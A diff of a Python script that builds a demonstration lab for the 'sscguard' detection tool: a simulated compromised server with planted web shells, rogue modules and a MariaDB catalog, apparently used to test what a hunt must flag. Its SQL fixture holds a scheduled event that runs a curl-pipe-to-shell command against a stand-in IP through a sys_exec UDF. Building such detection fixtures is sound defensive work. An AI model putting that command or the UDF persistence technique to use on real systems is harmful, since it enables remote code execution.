@@ -1,19 +1,29 @@
-"""Build the demonstration lab: a small web server tree with planted web shells and benign apps.
+"""Build the demonstration lab: a compromised server's files, collected under one folder.
 
     python examples/build_demo.py OUT_DIR
 
-Writes OUT_DIR/srv/... and OUT_DIR/planted.json (the files a scan must flag). The shells are
-minimal ones written for this project: each shows one technique sscguard's rules look for.
-Nothing here is copied from a public web-shell collection.
+Writes OUT_DIR/lab/ (a root for `sscguard hunt --root`) and OUT_DIR/planted.json (what a hunt
+must find). The lab holds a Debian web server (Apache with a rogue module, nginx, PHP-FPM with
+a prepend file, Tomcat with a rogue valve and a WAR, Jenkins init scripts, .htaccess tricks,
+dpkg records), web roots with real-looking benign pages and planted web shells, the Windows
+artifacts of an IIS/Exchange peer (applicationHost.config with a rogue module, agents.config,
+a SYSTEM hive with a swapped ServiceDll), ESXi command outputs, and a MariaDB catalog export.
+Every file is written for this project; the shells are minimal ones, each showing one
+technique. Nothing is copied from a public web-shell collection.
 """
 
 from __future__ import annotations
 
 import base64
 import json
+import os
 import sys
 import zlib
 from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parent))
+
+from lab_components import EXPECTED, esxi_host, linux_host, windows_host
 
 BENIGN: dict[str, str] = {
     "var/www/html/index.php": """<?php
@@ -144,17 +154,70 @@ PLANTED: dict[str, str] = {
 }
 
 
-def build(out: Path) -> dict[str, list[str]]:
-    for rel, text in {**BENIGN, **PLANTED}.items():
-        path = out / "srv" / rel
+def _sql_catalog() -> str:
+    """Rows a compromised MariaDB returned for sscguard's query pack (sscguard sql queries
+    --engine mysql): a UDF library registered by a plain INSERT into mysql.func, an event
+    that calls it every hour, and secure_file_priv left empty."""
+    rows = [
+        {"query": "my_server", "version": "10.11.11-MariaDB-0+deb12u1", "version_comment":
+         "Debian 12", "hostname": "web1", "port": 3306, "login": "audit@localhost",
+         "secure_file_priv": "", "plugin_dir": "/usr/lib/mysql/plugin/", "local_infile": "OFF",
+         "datadir": "/var/lib/mysql/"},
+        {"query": "my_func", "name": "sys_exec", "ret": 2, "dl": "lib_mysqludf_sys.so",
+         "type": "function"},
+        {"query": "my_events", "db": "shop", "name": "cache_refresh", "definer": "root@localhost",
+         "status": "ENABLED",
+         "definition": "DO SELECT sys_exec('curl -s http://203.0.113.9/k | sh')"},
+        {"query": "my_plugins", "name": "InnoDB", "status": "ACTIVE", "type": "STORAGE ENGINE",
+         "library": None, "author": "Oracle Corporation", "description": "Supports transactions",
+         "load_option": "FORCE"},
+    ]  # fmt: skip
+    names = ("my_server", "my_func", "my_plugins", "my_plugin_table", "my_events", "my_triggers",
+             "my_routines")  # fmt: skip
+    rows.extend({"query": f"_done:{name}"} for name in names)
+    return "".join(json.dumps(row) + "\n" for row in rows)
+
+
+SQL_CATALOG = "collected/sql/mariadb-web1.jsonl"
+APP_DEPLOYED = 1_788_256_800  # 2026-09-01T10:00:00Z
+INTRUSION = 1_795_435_200  # 2026-11-18T10:00:00Z
+
+
+def build(out: Path) -> dict[str, object]:
+    """Write the lab under ``out/lab`` and return (and save) what a hunt must find."""
+    lab = out / "lab"
+    linux_host(lab, clean=False)
+    windows_host(lab, clean=False)
+    esxi_host(lab, clean=False)
+    for index, (rel, text) in enumerate({**BENIGN, **PLANTED}.items()):
+        path = lab / rel
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_text(text, encoding="utf-8")
-    manifest = {
-        "planted": sorted(str(out / "srv" / rel) for rel in PLANTED),
-        "benign": sorted(str(out / "srv" / rel) for rel in BENIGN),
+        # A realistic history: the application was deployed in September, the shells arrived
+        # one by one over three days in November (the report's timeline shows them).
+        when = APP_DEPLOYED + index * 60 if rel in BENIGN else INTRUSION + index * 9_000
+        os.utime(path, (when, when))
+    plugins = lab / "usr/lib/mysql/plugin"  # the UDF library the catalog's mysql.func row names
+    plugins.mkdir(parents=True, exist_ok=True)
+    (lab / "var/lib/mysql").mkdir(parents=True, exist_ok=True)  # the server's datadir
+    (plugins / "lib_mysqludf_sys.so").write_bytes(b"\x7fELF\x02\x01\x01" + b"\0" * 57)
+    catalog = lab / SQL_CATALOG
+    catalog.parent.mkdir(parents=True, exist_ok=True)
+    catalog.write_text(_sql_catalog(), encoding="utf-8")
+    expected_rules = sorted({r for rules in EXPECTED.values() for r in rules} | SQL_EXPECTED)
+    manifest: dict[str, object] = {
+        "root": str(lab),
+        "sql_catalog": str(catalog),
+        "planted_shells": sorted(str(lab / rel) for rel in PLANTED),
+        "benign_files": sorted(str(lab / rel) for rel in BENIGN),
+        "expected_rules": expected_rules,
     }
     (out / "planted.json").write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
     return manifest
+
+
+# What the SQL catalog must raise: the mysql.func row, the event calling it, secure_file_priv.
+SQL_EXPECTED = {"SSC-001-020", "SSC-001-022", "SSC-001-024"}
 
 
 def main() -> int:
@@ -163,9 +226,13 @@ def main() -> int:
         return 2
     out = Path(sys.argv[1]).resolve()
     manifest = build(out)
+    shells = manifest["planted_shells"]
+    rules = manifest["expected_rules"]
+    assert isinstance(shells, list) and isinstance(rules, list)
     print(
-        f"demo lab in {out / 'srv'}: {len(manifest['planted'])} planted shells, "
-        f"{len(manifest['benign'])} benign files"
+        f"demo lab in {manifest['root']}: a Linux web server (Apache, nginx, PHP-FPM, Tomcat, "
+        "Jenkins), IIS/Exchange/TermService artifacts, ESXi outputs and a MariaDB catalog; "
+        f"{len(shells)} planted web shells, {len(rules)} expected checks"
     )
     return 0
 
